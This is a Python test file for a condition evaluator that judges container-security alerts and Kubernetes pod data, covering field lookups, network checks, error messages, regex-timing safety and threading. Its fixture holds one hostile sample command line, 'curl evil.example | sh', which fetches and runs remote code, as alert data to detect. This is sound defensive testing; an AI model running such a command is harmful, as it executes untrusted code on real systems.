"""What holds of an alert and its pod. docs/conditions.md has the same language for people."""

import threading
import time

from expects import be_above, be_below, be_false, be_none, be_true, equal, expect
from mamba import description, it

from playbooks.core.errors import InvalidSetting
from playbooks.infrastructure.conditions.cel import condition
from playbooks.testing import a_pod, an_alert

FIELDS = {
    "proc.name": "bash",
    "proc.cmdline": "bash -c 'curl evil.example | sh'",
    "proc.pid": 4711,
    "proc.is_exe_upper_layer": True,
    "fd.rip": "10.1.2.3",
    "fd.sip": "2001:db8::1",
    "evt.latency": 1.5,
    "user.name": "<NA>",
    "proc.aname[2]": None,
    "nested": {"a": 1},
}


def told(text, alert=None, pod=None):
    return condition(text).judge(alert or an_alert(FIELDS, tags=["T1059", "shell"]), pod)


def holds(text, alert=None, pod=None):
    return told(text, alert, pod).holds


class Counting:
    def __init__(self, program, asked):
        self.program, self.asked = program, asked

    def evaluate(self, given):
        self.asked.append(given)
        return self.program.evaluate(given)


def refusal(text):
    try:
        condition(text)
    except InvalidSetting as error:
        return str(error)
    return ""


with description("A condition") as self:
    with description("on an alert"):
        with it("is told its rule, priority, source, tags and host"):
            for text in (
                'alert.rule == "Terminal shell in container"',
                'alert.priority == "Notice"',
                'alert.priority in ["Notice", "Warning"]',
                'alert.source == "syscall"',
                'alert.hostname.startsWith("node-")',
                '"shell" in alert.tags',
                'alert.tags.exists(t, t.startsWith("T10"))',
                'alert.tags.all(t, t != "")',
                "alert.tags.size() == 2 && size(alert.tags) > 1",
            ):
                expect((text, holds(text))).to(equal((text, True)))

        with it("is told its time, in the time zone that it names"):
            for text in (
                'alert.time < timestamp("2026-01-02T03:00:01Z")',
                "alert.time.getHours() == 3 && alert.time.getMinutes() == 0",
                'alert.time.getHours("Asia/Tokyo") == 12',
                # A Friday; Sunday is 0.
                "alert.time.getDayOfWeek() == 5",
            ):
                expect((text, holds(text))).to(equal((text, True)))

        with it("is told its output fields, text and numbers"):
            for text in (
                'fields["proc.name"] == "bash"',
                'fields["proc.name"] in ["sh", "bash"]',
                'fields["proc.cmdline"].contains("curl ")',
                'fields["proc.cmdline"].matches(r"curl\\s+\\S+")',
                'fields["proc.cmdline"].endsWith("sh\'")',
                'fields["proc.name"].size() == 4',
                'fields["proc.pid"] > 4000 && fields["proc.pid"] in [4711]',
                'fields["evt.latency"] > 1 && fields["evt.latency"] < 2',
                'fields["proc.is_exe_upper_layer"] == true',
                '"proc.name" in fields',
            ):
                expect((text, holds(text))).to(equal((text, True)))

        with it("joins with and, or and not as logic does"):
            for text, expected in (
                ('!(fields["proc.name"] in ["java"])', True),
                ('"shell" in alert.tags && fields["proc.name"] == "java"', False),
                ('"shell" in alert.tags || fields["proc.name"] == "java"', True),
                ("true && !false", True),
            ):
                expect((text, holds(text))).to(equal((text, expected)))

        with it("finds values of different types not equal, as Kubernetes does"):
            for text, expected in (
                ('fields["proc.pid"] == "4711"', False),
                ('fields["proc.pid"] != "4711"', True),
                ('!(fields["proc.pid"] in ["4711"])', True),
                ('fields["proc.is_exe_upper_layer"] == 1', False),
            ):
                expect((text, holds(text))).to(equal((text, expected)))

    with description("on addresses"):
        with it("knows whether one is within a network"):
            for text, expected in (
                ('cidr("10.0.0.0/8").containsIP(fields["fd.rip"])', True),
                ('cidr("10.2.0.0/16").containsIP(fields["fd.rip"])', False),
                ('cidr("10.0.0.0/8").containsIP(ip(fields["fd.rip"]))', True),
                ('cidr("2001:db8::/32").containsIP(fields["fd.sip"])', True),
                ('cidr("10.0.0.0/8").containsIP(fields["fd.sip"])', False),
                ('ip(fields["fd.sip"]).family() == 6', True),
                ('ip(fields["fd.rip"]) == ip("10.1.2.3")', True),
                ('isIP(fields["proc.name"])', False),
            ):
                expect((text, holds(text))).to(equal((text, expected)))

        with it("takes no text for one that is none, with a zone or within IPv6"):
            for text in ("bash", "10.1.2", "010.1.2.3", "::ffff:10.1.2.3", "fe80::1%eth0", ""):
                alert = an_alert({"fd.rip": text})

                inside = told('cidr("0.0.0.0/0").containsIP(fields["fd.rip"])', alert)
                expect((text, inside.holds)).to(equal((text, None)))
                expect(holds('isIP(fields["fd.rip"])', alert)).to(be_false)

    with description("on the pod"):
        with it("is told its namespace, labels, owner and images"):
            labels = {"team": "shop", "app.kubernetes.io/name": "web"}
            pod = a_pod(metadata={"labels": labels})
            for text in (
                'pod.namespace == "shop"',
                'pod.labels["team"] == "shop" && pod.labels.team == "shop"',
                '"app.kubernetes.io/name" in pod.labels && !("x" in pod.labels)',
                'pod.owner.kind == "" && pod.owner.name == ""',
            ):
                expect((text, holds(text, pod=pod))).to(equal((text, True)))

        with it("is told images of a pod that was read"):
            pod = a_pod()
            pod.manifest["spec"] = {
                "containers": [{"name": "web", "image": "registry.example/web:1"}],
                "initContainers": [{"name": "init", "image": "other.example/init:1"}],
            }
            text = 'pod.images.all(i, i.startsWith("registry.example/"))'

            expect(holds(text, pod=pod)).to(be_false)
            expect(holds(text.replace("all", "exists"), pod=pod)).to(be_true)

        with it("cannot be told of none, unless the alert alone decides"):
            expect(told('pod.namespace == "shop"').words).to(equal("no pod is proven"))
            expect(holds('alert.rule == "x" && pod.namespace == "shop"')).to(be_false)
            expect(holds('alert.rule != "x" || pod.namespace == "shop"')).to(be_true)
            expect(holds('!("team" in pod.labels)')).to(be_none)

    with description("of what is not there"):
        with it("cannot be told, and says what"):
            for text, words in (
                ('fields["proc.pname"] == "x"', "the alert has no field proc.pname"),
                ('!(fields["user.name"] in ["root"])', "the alert has no field user.name"),
                ('fields["proc.aname[2]"] != "x"', "the alert has no field proc.aname[2]"),
                ('fields["nested"] == "x"', "the alert has no field nested"),
            ):
                judged = told(text)

                expect((text, judged.holds, judged.words)).to(equal((text, None, words)))

        with it("can ask whether it is there"):
            expect(holds('"user.name" in fields')).to(be_false)
            expect(holds('!("proc.pname" in fields) || fields["proc.pname"] == "x"')).to(be_true)

        with it("cannot be told of more tags than rules have, which take long to look through"):
            many = an_alert(FIELDS, tags=[f"tag-{number}" for number in range(20_000)])
            begun = time.monotonic()
            judged = told('alert.tags.exists(t, t == "T1059")', many)

            expect((judged.holds, judged.words)).to(
                equal((None, "the alert has more than 200 tags"))
            )
            either = told('alert.rule != "" || "T1059" in alert.tags', many)
            both = told('alert.rule == "" && "T1059" in alert.tags', many)
            neither = told('!("T1059" in alert.tags)', many)

            expect((either.holds, both.holds, neither.holds)).to(equal((True, False, None)))
            expect(time.monotonic() - begun).to(be_below(2))

        with it("says which label"):
            judged = told('pod.labels["team"] == "shop"', pod=a_pod())

            expect((judged.holds, judged.words)).to(
                equal((None, "pod shop/web-0 has no label team"))
            )

        with it("holds all the same where another part decides"):
            expect(holds('fields["gone"] == "x" || alert.source == "syscall"')).to(be_true)
            expect(holds('fields["gone"] == "x" && alert.source == "k8s_audit"')).to(be_false)

        with it("cannot be told where a value is of another kind, in words that nobody can plant"):
            for text in ('fields["proc.pid"].startsWith("4")', 'fields["proc.name"] > 3'):
                judged = told(text)

                expect(judged.holds).to(be_none)
                expect(judged.words).to(
                    equal("a value is of another kind than it is compared with")
                )

    with description("that means something else in Kubernetes, or nothing"):
        with it("is refused, with what of it and what was expected"):
            for text, words in (
                ("alert.rule ==", "it cannot be read"),
                ('alert.rule == "a" alert', "it cannot be read at line 1, column 19"),
                ('alerts.rule == "a"', "there is no alerts, expected one of alert, fields, pod"),
                ('alert.ruel == "a"', "there is no ruel of 'alert': expected one of priority"),
                ('pod.annotations["a"] == "b"', "there is no annotations of 'pod'"),
                ('alert.fields["a"] == "b"', 'or fields["..."] for output fields'),
                ('fields.proc.name == "a"', 'fields["proc"]'),
                ("alert.rule == 5", "compares text with a number: it never holds"),
                ('5 == "5"', "compares a number with text: it never holds"),
                ("5 in alert.tags", "looks for a number in a list of text: it never holds"),
                ('alert.priority >= "Error"', "MINIMUM_PRIORITY compares priorities"),
                ('alert.priority == "CRITICAL"', "'CRITICAL' is no priority, expected one of Em"),
                ('alert.priority in ["Info"]', "'Info' is no priority"),
                ('alert.rule < "b"', "expected numbers or times"),
                ("1 + 1u == 2", "there is no arithmetic"),
                ("1 + 1 == 2", "there is no arithmetic"),
                ("-size(alert.tags) == 2", "there is no arithmetic"),
                ("4.5 < 5", "expected text, a whole number or a bool"),
                ("size(alert.tags) > 99999999999999999999", "expected text, a whole number"),
                ("has(pod.labels.team)", '"name" in pod.labels'),
                ("true ? true : false", "(a && b) || (!a && c)"),
                ('fields["a"]', "is any value, expected true or false"),
                ("alert.rule", "is text, expected true or false"),
                ('alert.tags[0] == "a"', "use in, exists or all"),
                ("fields[alert.rule] == 'a'", "expected text in quotes"),
                ("[1, 'a'].exists(x, x == 'a')", "a list of a number and text"),
                ("alert.tags.map(t, t) == []", "there is no function map of a list of text"),
                ("alert.tags.exists(t, alert.tags.exists(u, u == t))", "in another exists or all"),
                ("alert.tags.exists(pod, pod == 'a')", "pod is a name already"),
                ("alert.tags.exists(t)", "expects a name and a condition"),
                ('alert.rule.matches("(")', "cannot be used: missing ): ("),
                ('alert.rule.matches(fields["a"])', "is any value, expected text"),
                ("alert.rule.matches(alert.hostname)", "expected text in quotes"),
                ('alert.rule == "\\d"', "an escape that is not taken"),
                ('cidr("10.0.0.0").containsIP("10.0.0.1")', "a network such as 10.0.0.0/8"),
                ('ip("10.0.0") == ip("10.0.0.1")', "cannot be used"),
                ("alert.time.getHours('Nowhere/Town') == 1", "cannot be used"),
                ('alert.time < timestamp("yesterday")', "expected an RFC 3339 time"),
                ("shell(alert.rule)", "there is no function shell"),
                ("alert.rule.startsWith()", "has 0 arguments, expected 1"),
                ('alert.rule == b"a"', "expected text, a whole number or a bool"),
                ("alert == null", "is not taken"),
                ("{'a': 1} == {'a': 1}", "is not taken"),
                (".alert.rule == 'a'", "is not taken"),
                ("alert{} == alert{}", "is not taken"),
                ("!" * 1900 + "true", "nested too deep"),
                ("(" * 900 + "true" + ")" * 900, "nested too deep"),
            ):
                found = refusal(text)

                expect((text, found, words in found)).to(equal((text, found, True)))

        with it("is taken where it is long"):
            text = " || ".join(['alert.rule == "a"'] * 95)

            expect(holds(text)).to(be_false)

    with description("about text that an attacker writes"):
        with it("takes a time that is linear in its length"):
            guard = condition(
                'fields["a"].matches("^(a+)+$") || fields["a"].contains(fields["b"])'
                ' || fields["a"].matches("(.*)*x(.*)*y")'
            )

            def seconds(length):
                alert = an_alert({"a": "a" * length + "!", "b": "a" * (length // 2) + "b"})
                started = time.perf_counter()
                expect(guard.judge(alert).holds).to(be_false)
                return time.perf_counter() - started

            seconds(1000)
            expect(seconds(500_000)).to(be_below(2))

        with it("is answered whatever the text is"):
            guard = condition('fields["a"].matches("b") || fields["a"] in ["\\\\"]')
            for text in ("\x00", "\ufffd\ud800", "\u202e", "é" * 100, '"', "\\", "'''"):
                judged = guard.judge(an_alert({"a": text}))

                expect((text, judged.holds is None)).to(equal((text, False)))

    with it("judges alerts at the same time in threads, each for itself"):
        guard = condition('fields["n"] == "7" && alert.tags.exists(t, t == fields["n"])')
        wrong = []

        def run(number):
            alert = an_alert({"n": str(number)}, tags=["7"])
            for _ in range(10):
                if guard.judge(alert).holds is not (number == 7):
                    wrong.append(number)

        threads = [threading.Thread(target=run, args=(n,)) for n in range(6, 10)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        expect(wrong).to(equal([]))

    with it("remembers what it found of the alert alone, and never of more than it looks at"):
        guard = condition('fields["a"] == "1"')
        asked = []
        program = guard._program
        guard._program = Counting(program, asked)
        for text in ("1", "1", "2", "1", "x" * 5000, "x" * 5000):
            expect(guard.judge(an_alert({"a": text, "b": text})).holds).to(equal(text == "1"))

        expect(len(asked)).to(equal(4))
        expect(len(str(guard._known))).to(be_below(1000))

    with it("sees the same in alerts that have what it looks at in common"):
        guard = condition('fields["a"] == "1" && alert.source == "x"')
        one, other = an_alert({"a": "1", "b": "1"}), an_alert({"a": "1", "b": "2"})

        expect(guard.seen(one)).to(equal(guard.seen(other)))
        expect(guard.seen(one) == guard.seen(an_alert({"a": "2"}))).to(be_false)
        expect(len({guard.seen(one), guard.seen(other)})).to(equal(1))
        expect(len(str(guard.seen(one)))).to(be_above(0))
